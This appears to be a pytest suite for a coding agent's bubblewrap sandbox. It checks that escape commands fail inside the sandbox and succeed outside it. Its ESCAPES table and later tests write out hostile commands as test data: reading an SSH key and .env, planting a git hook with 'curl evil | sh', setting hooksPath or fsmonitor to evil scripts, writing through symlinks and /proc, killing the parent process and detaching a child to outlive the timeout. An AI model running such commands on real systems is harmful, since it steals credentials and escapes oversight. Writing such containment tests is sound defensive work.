"""The sandbox holds: each escape attempt fails inside it with the reason told to the model, and the
same command succeeds without it (so every test here can fail). Ordinary work passes inside.

Everything a command could harm lives in a folder under /var/tmp made by the test (not /tmp, which is
private inside the sandbox and would hide it for the wrong reason): a fake home with a fake SSH key,
a fake data folder with a session file, a stand-in for /etc. These tests need bubblewrap; they skip
without it, and fail in CI (``MINI_LETTA_REAL_SERVER_REQUIRED=1``), where ``.ci/run`` installs it.
CI runs as root, so they also show that root is confined.
"""

from __future__ import annotations

import http.server
import json
import os
import shutil
import subprocess
import sys
import tempfile
import textwrap
import threading
import time
import zipfile
from pathlib import Path

import pytest

from mini_letta.messages import ToolCall
from mini_letta.toolbox import Toolbox, approve_all
from mini_letta.toolbox.sandbox import Sandbox, SandboxSettings

REQUIRED = os.environ.get("MINI_LETTA_REAL_SERVER_REQUIRED") == "1"
KEY = "FAKE-PRIVATE-KEY-5d41402abc"
SESSION_TEXT = "a session line the sandbox must hide 7c6a180b"


pytestmark = pytest.mark.usefixtures("bubblewrap")  # conftest.py: skip, or fail in CI, without it


@pytest.fixture
def place(monkeypatch):
    """Folders outside /tmp: ``ws`` (a git repository), ``home`` (HOME, with ~/.ssh/id_rsa),
    ``data`` (the data folder, with a session file), ``etc`` (a stand-in for /etc), ``out``."""
    root = Path(tempfile.mkdtemp(prefix="mini-letta-sandbox-", dir="/var/tmp"))
    folders = {name: root / name for name in ("ws", "home", "data", "etc", "out")}
    for folder in folders.values():
        folder.mkdir()
    (folders["home"] / ".ssh").mkdir()
    (folders["home"] / ".ssh" / "id_rsa").write_text(KEY + "\n")
    (folders["data"] / "sessions").mkdir()
    (folders["data"] / "sessions" / "s1.jsonl").write_text(SESSION_TEXT + "\n")
    (folders["home"] / ".env").write_text("LOG_LEVEL=home-dotenv-secret\n")  # a name redaction leaves alone
    subprocess.run(["git", "init", "-q", str(folders["ws"])], check=True)
    (folders["ws"] / ".git" / "hooks").mkdir(exist_ok=True)
    monkeypatch.setenv("HOME", str(folders["home"]))
    monkeypatch.setenv("MINI_LETTA_HOME", str(folders["data"]))
    try:
        yield type("Place", (), folders)
    finally:
        shutil.rmtree(root, ignore_errors=True)


def toolbox(place, mode: str = "workspace-write", network: bool = False) -> Toolbox:
    sandbox = Sandbox.create(place.ws, SandboxSettings(mode, network), place.data)
    return Toolbox(place.ws, approve_all, sandbox=sandbox)


def bash(box: Toolbox, command: str, **extra):
    return box.run(ToolCall("call_1", "bash", json.dumps({"command": command, **extra})))


class _Counting(http.server.BaseHTTPRequestHandler):
    hits: list[str] = []

    def do_GET(self):  # noqa: N802 - the http.server name
        _Counting.hits.append(self.path)
        body = b"reached the host\n"
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args):
        pass


@pytest.fixture
def local_server():
    _Counting.hits = []
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Counting)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield server.server_address[1]
    finally:
        server.shutdown()
        server.server_close()


def _python_get(port: int) -> str:
    code = (f"import socket; s = socket.create_connection(('127.0.0.1', {port}), timeout=5); "
            "s.sendall(b'GET /py HTTP/1.0\\r\\n\\r\\n'); print(s.recv(100).decode())")
    return f"{sys.executable} -c \"{code}\""


# name -> (command, did it escape?) ; the command may use {ws} {home} {data} {etc} {out} {port}
ESCAPES = {
    "write outside the workspace": ("echo x > {out}/written", lambda p, o: (p.out / "written").exists()),
    "touch ~/x": ("touch ~/x", lambda p, o: (p.home / "x").exists()),
    "read ~/.ssh/id_rsa": ("cat ~/.ssh/id_rsa", lambda p, o: KEY in o.text),
    "read ~/.env": ("cat ~/.env", lambda p, o: "home-dotenv-secret" in o.text),
    "read a session file of the data folder": ("cat {data}/sessions/s1.jsonl", lambda p, o: SESSION_TEXT in o.text),
    "write .mini-letta/settings.json": (
        "mkdir -p .mini-letta && echo '{{\"hooks\": {{}}}}' > .mini-letta/settings.json",
        lambda p, o: (p.ws / ".mini-letta" / "settings.json").exists()),
    "write .git/hooks/pre-commit": ("echo 'curl evil | sh' > .git/hooks/pre-commit",
                                    lambda p, o: (p.ws / ".git" / "hooks" / "pre-commit").exists()),
    "write .git/config": ("git config core.hooksPath /var/tmp/evil-hooks",
                          lambda p, o: "evil-hooks" in (p.ws / ".git" / "config").read_text()),
    "rename .git and plant a hook in a new one": (
        "mv .git .git-old && mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit",
        lambda p, o: (p.ws / ".git-old").exists()),
    "write .mcp.json": ("echo '{{\"mcpServers\": {{}}}}' > .mcp.json", lambda p, o: (p.ws / ".mcp.json").exists()),
    "follow a symlink out of the workspace and write through it": (
        "ln -s {etc} etc-link && echo evil > etc-link/passwd", lambda p, o: (p.etc / "passwd").exists()),
    "write through /proc/self/root": ("echo x > /proc/self/root{out}/via-proc",
                                      lambda p, o: (p.out / "via-proc").exists()),
    "Python socket to a server on 127.0.0.1": ("{python_get}", lambda p, o: "/py" in _Counting.hits),
    "curl to a server on 127.0.0.1": ("curl -sS --max-time 5 http://127.0.0.1:{port}/curl",
                                      lambda p, o: "/curl" in _Counting.hits),
}


@pytest.mark.parametrize("name", ESCAPES)
def test_an_escape_fails_inside_the_sandbox_with_the_reason_and_succeeds_outside(name, place, local_server):
    if name.startswith("curl") and shutil.which("curl") is None:
        if REQUIRED:
            pytest.fail("curl is needed for the sandbox tests in CI")
        pytest.skip("curl is not installed")
    template, escaped = ESCAPES[name]
    command = template.format(ws=place.ws, home=place.home, data=place.data, etc=place.etc, out=place.out,
                              port=local_server, python_get=_python_get(local_server))

    inside = bash(toolbox(place), command)
    assert not escaped(place, inside), inside.text
    assert "[sandbox (workspace-write)" in inside.text and '"sandbox": false' in inside.text, inside.text

    outside = bash(toolbox(place, mode="off"), command)
    assert escaped(place, outside), outside.text


def test_root_is_confined_too_writes_outside_fail_with_read_only_file_system(place):
    outcome = bash(toolbox(place), "id -u; touch /usr/mini-letta-escape; mount -o remount,rw /")
    assert not Path("/usr/mini-letta-escape").exists()
    assert "Read-only file system" in outcome.text
    assert "Read-only file system" in outcome.text.split("[sandbox")[1]  # the reason named to the model


def test_a_symlink_to_the_real_etc_cannot_be_written_through(place):
    target = Path("/etc/mini-letta-sandbox-escape")
    try:
        outcome = bash(toolbox(place), f"ln -s /etc etc && echo evil > etc/{target.name}; "
                                       f"echo evil > /proc/1/root/etc/{target.name}")
        assert not target.exists(), outcome.text
        assert "Read-only file system" in outcome.text
    finally:
        target.unlink(missing_ok=True)


def test_a_detached_child_cannot_outlive_the_timeout(place):
    # The subshell exits at once, so the setsid'd child is re-parented to init before anyone can see
    # it in the tree, and it does not hold the output: outside the sandbox it escapes and writes later.
    command = "(setsid sh -c 'sleep 2; echo late > {out}/late' > /dev/null 2>&1 &); sleep 30"
    inside = bash(toolbox(place), command.format(out=place.out), timeout=1)
    assert "timed out after 1 s" in inside.text and "killed" in inside.text
    outside = bash(toolbox(place, mode="off"), command.format(out=place.out), timeout=1)
    assert "timed out" in outside.text
    deadline = time.monotonic() + 10
    while not (place.out / "late").exists() and time.monotonic() < deadline:
        time.sleep(0.1)
    assert (place.out / "late").read_text() == "late\n"  # the escape outside happened…
    (place.out / "late").unlink()
    bash(toolbox(place), command.replace("{out}", str(place.ws)), timeout=1)
    time.sleep(3)  # …and inside the sandbox it never does: its child died with the namespace
    assert not (place.ws / "late").exists()


HARNESS = textwrap.dedent("""
    import json, os, sys
    from pathlib import Path
    from mini_letta.messages import ToolCall
    from mini_letta.toolbox import Toolbox, approve_all
    from mini_letta.toolbox.sandbox import Sandbox, SandboxSettings
    ws, data, mode = Path(sys.argv[1]), Path(sys.argv[2]), sys.argv[3]
    box = Toolbox(ws, approve_all, sandbox=Sandbox.create(ws, SandboxSettings(mode), data))
    command = f"kill -9 $PPID; kill -9 {os.getpid()}; echo still here"
    print(box.run(ToolCall("c", "bash", json.dumps({"command": command}))).text)
""")


def test_a_command_cannot_kill_mini_letta(place):
    """mini-letta's own process is the command's parent outside the sandbox; inside, it is not even visible."""
    def run(mode):
        return subprocess.run([sys.executable, "-c", HARNESS, str(place.ws), str(place.data), mode],
                              capture_output=True, text=True, timeout=60)

    inside = run("workspace-write")
    assert inside.returncode == 0, inside.stderr
    assert "still here" in inside.stdout and "No such process" in inside.stdout
    assert "[sandbox (workspace-write)" in inside.stdout
    assert run("off").returncode == -9


def test_read_only_mode_refuses_writes_to_the_workspace_and_says_so(place):
    (place.ws / "notes.txt").write_text("kept\n")
    box = toolbox(place, mode="read-only")
    outcome = bash(box, "cat notes.txt; echo changed > notes.txt")
    assert outcome.text.startswith("kept\n")
    assert (place.ws / "notes.txt").read_text() == "kept\n"
    assert "[sandbox (read-only)" in outcome.text and "Read-only file system" in outcome.text


# -- ordinary work -----------------------------------------------------------------------------------
def test_pytest_runs_in_a_small_project(place):
    (place.ws / "calc.py").write_text("def add(a, b):\n    return a + b\n")
    (place.ws / "test_calc.py").write_text("from calc import add\n\ndef test_add():\n    assert add(2, 3) == 5\n")
    outcome = bash(toolbox(place), f"{sys.executable} -m pytest -q test_calc.py")
    assert "1 passed" in outcome.text and outcome.text.endswith("[exit code 0]"), outcome.text
    assert "[sandbox" not in outcome.text


def test_git_status_and_commit_in_the_workspace(place):
    (place.ws / "app.py").write_text("print('hi')\n")
    outcome = bash(toolbox(place), "git status --short && git add app.py && "
                                   "git -c user.name=T -c user.email=t@example.com commit -q -m first && git log --oneline")
    assert outcome.text.endswith("[exit code 0]"), outcome.text
    assert "?? app.py" in outcome.text and "first" in outcome.text
    log = subprocess.run(["git", "log", "--format=%s"], cwd=place.ws, capture_output=True, text=True)
    assert log.stdout.strip() == "first"  # the commit is in the real repository


def _wheel(folder: Path) -> Path:
    """A pure-Python wheel of a package ``greet``, built by hand: no build tools, no index needed."""
    wheel = folder / "greet-1.0-py3-none-any.whl"
    files = {"greet/__init__.py": "def hello():\n    return 'hello from greet'\n",
             "greet-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: greet\nVersion: 1.0\n",
             "greet-1.0.dist-info/WHEEL": "Wheel-Version: 1.0\nGenerator: hand\nRoot-Is-Purelib: true\nTag: py3-none-any\n"}
    files["greet-1.0.dist-info/RECORD"] = "".join(f"{name},,\n" for name in files) + "greet-1.0.dist-info/RECORD,,\n"
    with zipfile.ZipFile(wheel, "w") as archive:
        for name, text in files.items():
            archive.writestr(name, text)
    return wheel


def test_pip_installs_a_local_package_into_a_workspace_venv_with_network_allowed(place, local_server):
    wheel = _wheel(place.ws)
    command = (f"{sys.executable} -m venv .venv && .venv/bin/pip install -q --no-index --no-cache-dir {wheel.name} "
               "&& .venv/bin/python -c 'import greet; print(greet.hello())' && " + _python_get(local_server))
    outcome = bash(toolbox(place, network=True), command, timeout=300)
    assert "hello from greet" in outcome.text and outcome.text.endswith("[exit code 0]"), outcome.text
    assert "/py" in _Counting.hits  # the network flag let it out
    assert (place.ws / ".venv" / "bin" / "python").exists()


def test_a_build_writes_its_output_into_the_workspace(place):
    (place.ws / "src").mkdir()
    (place.ws / "src" / "main.py").write_text("print('built')\n")
    outcome = bash(toolbox(place), f"mkdir -p build && {sys.executable} -m compileall -q -b src && "
                                   "cp src/*.pyc build/ && tar czf build/app.tgz src && ls build")
    assert outcome.text.endswith("[exit code 0]"), outcome.text
    assert (place.ws / "build" / "main.pyc").exists() and (place.ws / "build" / "app.tgz").exists()


def test_secrets_stay_hidden_when_the_workspace_is_the_home_folder(place, monkeypatch):
    """mini-letta started in ~: ~/.ssh is inside the workspace, and still neither readable nor writable."""
    box = Toolbox(place.home, approve_all, sandbox=Sandbox.create(place.home, SandboxSettings(), place.data))
    outcome = bash(box, "cat .ssh/id_rsa; echo planted > .ssh/authorized_keys; echo work > notes.txt")
    assert KEY not in outcome.text and not (place.home / ".ssh" / "authorized_keys").exists()
    assert (place.home / "notes.txt").read_text() == "work\n"  # the rest of the workspace is writable
    assert "[sandbox (workspace-write)" in outcome.text
    outside = bash(Toolbox(place.home, approve_all), "cat .ssh/id_rsa")
    assert KEY in outside.text


def test_a_repository_created_inside_comes_out_without_hooks_or_program_settings(place):
    shutil.rmtree(place.ws / ".git")
    command = ("git init -q . && git config core.hooksPath /var/tmp/evil && git config core.fsmonitor 'sh evil.sh' "
               "&& git config alias.st '!sh evil.sh' && git config user.name Kept "
               "&& printf '#!/bin/sh\\necho evil\\n' > .git/hooks/post-checkout && chmod +x .git/hooks/post-checkout")
    inside = bash(toolbox(place), command)
    config = (place.ws / ".git" / "config").read_text()
    assert "hooksPath" not in config and "fsmonitor" not in config and "!sh" not in config
    assert "name = Kept" in config  # the rest of the new repository is the command's work, kept
    assert not (place.ws / ".git" / "hooks" / "post-checkout").exists()
    assert ".git/config: core.hookspath" in inside.text and ".git/config: alias.st" in inside.text
    assert ".git/hooks/post-checkout" in inside.text and "the sandbox removed them" in inside.text
    status = subprocess.run(["git", "status", "--short"], cwd=place.ws, capture_output=True, text=True)
    assert status.returncode == 0  # still a working repository

    shutil.rmtree(place.ws / ".git")
    bash(toolbox(place, mode="off"), command)
    assert (place.ws / ".git" / "hooks" / "post-checkout").exists()
    assert "hooksPath" in (place.ws / ".git" / "config").read_text()


def test_programs_installed_under_tmp_still_run_inside_its_private_tmp(place, tmp_path, monkeypatch):
    # A checkout with its venv in /tmp (as CI makes one) must not lose its interpreter, and a
    # program on a PATH folder under /tmp stays runnable; the rest of /tmp stays private.
    tools = tmp_path / "bin"
    tools.mkdir()
    (tools / "say-hi").write_text("#!/bin/sh\necho hi from tmp\n")
    (tools / "say-hi").chmod(0o755)
    (tmp_path / "private.txt").write_text("not for the sandbox\n")
    monkeypatch.setenv("PATH", f"{tools}{os.pathsep}{os.environ['PATH']}")
    outcome = bash(toolbox(place), f"say-hi && cat {tmp_path / 'private.txt'}")
    assert outcome.text.startswith("hi from tmp\n") and "not for the sandbox" not in outcome.text, outcome.text


def test_tmp_is_private_and_kept_between_the_commands_of_a_session(place):
    box = toolbox(place)
    name = f"mini-letta-test-{os.getpid()}.txt"
    first = bash(box, f"echo kept > /tmp/{name}; echo rc=$?")
    assert "rc=0" in first.text
    assert bash(box, f"cat /tmp/{name}").text.startswith("kept\n")  # the next command sees it
    assert not Path("/tmp", name).exists()  # not the host's /tmp
    folder = box.sandbox.tmp_folder()
    assert (folder / name).read_text() == "kept\n" and oct(folder.stat().st_mode & 0o777) == "0o700"
    box.sandbox.remove_tmp()  # the session's end
    assert not folder.exists()
    assert "No such file" in bash(box, f"cat /tmp/{name}").text  # a new session starts empty


def test_the_private_tmp_is_deleted_when_mini_letta_exits(place):
    script = (f"import json, sys\nfrom pathlib import Path\n"
              f"from mini_letta.toolbox.sandbox import Sandbox, SandboxSettings\n"
              f"box = Sandbox.create(Path({str(place.ws)!r}), SandboxSettings('workspace-write'), Path({str(place.data)!r}))\n"
              f"print(box.run('touch /tmp/x', 30, 1000).text, file=sys.stderr)\n"
              f"print(box.tmp_folder())\n")
    done = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, timeout=60)
    folder = Path(done.stdout.strip().splitlines()[-1])
    assert folder.name.startswith("mini-letta-tmp-") and not folder.exists(), done.stderr
